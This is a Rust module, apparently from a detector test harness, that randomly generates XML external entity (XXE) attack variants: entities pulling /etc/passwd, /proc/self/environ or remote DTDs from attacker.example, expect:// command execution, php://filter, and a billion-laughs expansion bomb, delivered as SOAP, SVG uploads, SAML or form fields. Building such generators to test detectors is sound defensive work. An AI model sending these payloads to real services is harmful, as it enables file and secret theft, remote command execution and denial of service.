//! Red-team XML external entities, written apart from the detectors (held out in spirit): a
//! DTD construct (general entity with SYSTEM or PUBLIC, parameter entity pulling a remote DTD,
//! an external DOCTYPE subset, entity expansion bombs, XInclude) × a resource (`file://`, a
//! remote DTD, `php://filter`, `expect://`, `jar:`, `netdoc:`) × the document it rides in (bare
//! XML, SOAP, SVG, RSS, SAML-like) × how it travels (raw XML body of several content types, an
//! SVG upload, a form field holding XML) × spacing and quoting inside the declarations.

use crate::mutate::{join, percent_specials};
use crate::place::Request;
use crate::{Carrier, Family, Rng, Variant};

pub struct RedteamXxe;

fn resource(rng: &mut Rng) -> (&'static str, &'static str) {
    *rng.pick(&[
        ("file:///etc/passwd", "file"),
        ("file:///c:/windows/win.ini", "file"),
        ("file:///proc/self/environ", "file"),
        ("http://x9.oast.site/evil.dtd", "remote"),
        ("https://attacker.example/x.dtd", "remote"),
        ("php://filter/convert.base64-encode/resource=/etc/passwd", "php-filter"),
        ("expect://id", "expect"),
        ("jar:http://attacker.example/a.zip!/x.dtd", "jar"),
        ("netdoc:///etc/passwd", "netdoc"),
        ("/etc/passwd", "bare-path"),
    ])
}

/// Optional whitespace between declaration tokens (parsers accept any run).
fn ws(rng: &mut Rng) -> &'static str {
    const RUNS: [&str; 6] = [" ", " ", "  ", "\n", "\t", " \n "];
    RUNS[rng.below(RUNS.len())]
}

/// The DTD part, the reference that triggers it in the document, and the construct's name.
fn construct(rng: &mut Rng, root: &str) -> (String, String, &'static str, &'static str) {
    let (res, kind) = resource(rng);
    let q = if rng.chance(0.3) { '\'' } else { '"' };
    let name = *rng.pick(&["xxe", "a", "file", "ent", "x1"]);
    let (w1, w2) = (ws(rng), ws(rng));
    match rng.below(7) {
        0 | 1 => (format!("<!DOCTYPE {root} [{w1}<!ENTITY{w2}{name} SYSTEM {q}{res}{q}>]>"), format!("&{name};"), "system-entity", kind),
        2 => (
            format!("<!DOCTYPE {root} [<!ENTITY {name} PUBLIC {q}-//W3C//TEXT x//EN{q}{w1}{q}{res}{q}>]>"),
            format!("&{name};"),
            "public-entity",
            kind,
        ),
        3 => {
            (format!("<!DOCTYPE {root} [{w1}<!ENTITY % {name} SYSTEM {q}{res}{q}>{w2}%{name};]>"), String::new(), "parameter-entity", kind)
        }
        4 => (format!("<!DOCTYPE {root} SYSTEM {q}{res}{q}>"), String::new(), "external-subset", kind),
        5 => {
            let mut dtd = format!("<!DOCTYPE {root} [<!ENTITY l0 \"lol\">");
            for i in 1..=rng.range(3, 6) {
                let refs = vec![format!("&l{};", i - 1); 10].concat();
                dtd.push_str(&format!("<!ENTITY l{i} \"{refs}\">"));
            }
            dtd.push_str("]>");
            (dtd, "&l3;".into(), "expansion-bomb", "")
        }
        _ => (
            String::new(),
            format!("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href={q}{res}{q}/>"),
            "xinclude",
            kind,
        ),
    }
}

impl Family for RedteamXxe {
    fn name(&self) -> &'static str {
        "redteam-xxe"
    }

    fn detector(&self) -> &'static str {
        "xxe"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let (doc, root) =
            *rng.pick(&[("plain", "order"), ("soap", "soap:Envelope"), ("svg", "svg"), ("rss", "rss"), ("saml", "samlp:Response")]);
        let (dtd, reference, construct, kind) = construct(rng, root);
        let prolog = if rng.chance(0.7) { "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" } else { "" };
        let body = match doc {
            "soap" => format!("{prolog}{dtd}<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><getUser><id>{reference}</id></getUser></soap:Body></soap:Envelope>"),
            "svg" => format!("{prolog}{dtd}<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><text x=\"0\" y=\"16\">{reference}</text></svg>"),
            "rss" => format!("{prolog}{dtd}<rss version=\"2.0\"><channel><title>{reference}</title></channel></rss>"),
            "saml" => format!("{prolog}{dtd}<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"><Issuer>{reference}</Issuer></samlp:Response>"),
            _ => format!("{prolog}{dtd}<order><id>7</id><note>{reference}</note></order>"),
        };
        let (request, place) = match rng.below(6) {
            0 => (Request::new("POST", "/api/orders").header("Content-Type", "application/xml").body(&body), "xml-body"),
            1 => (Request::new("POST", "/soap").header("Content-Type", "text/xml; charset=utf-8").body(&body), "text-xml-body"),
            2 => (
                Request::new("POST", "/upload").header("Content-Type", "multipart/form-data; boundary=----x9").body(&format!(
                    "------x9\r\nContent-Disposition: form-data; name=\"file\"; filename=\"logo.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n{body}\r\n------x9--\r\n"
                )),
                "svg-upload",
            ),
            3 => (
                Request::new("POST", "/import").header("Content-Type", "application/x-www-form-urlencoded").body(&format!("format=xml&data={}", percent_specials(&body))),
                "form-field",
            ),
            4 => (Request::new("POST", "/api/v1/items").header("Content-Type", "application/json").body(&body), "content-type-mismatch"),
            _ => (Request::new("POST", "/saml/acs").header("Content-Type", "application/samlassertion+xml").body(&body), "vendor-xml-body"),
        };
        Variant { family: self.name(), mutation: join(&[construct, kind, doc, place]), payload: body, carrier: Carrier::Request(request) }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn varied_and_seeded() {
        super::super::assert_varied_and_seeded(&super::RedteamXxe, 300, 150);
    }
}
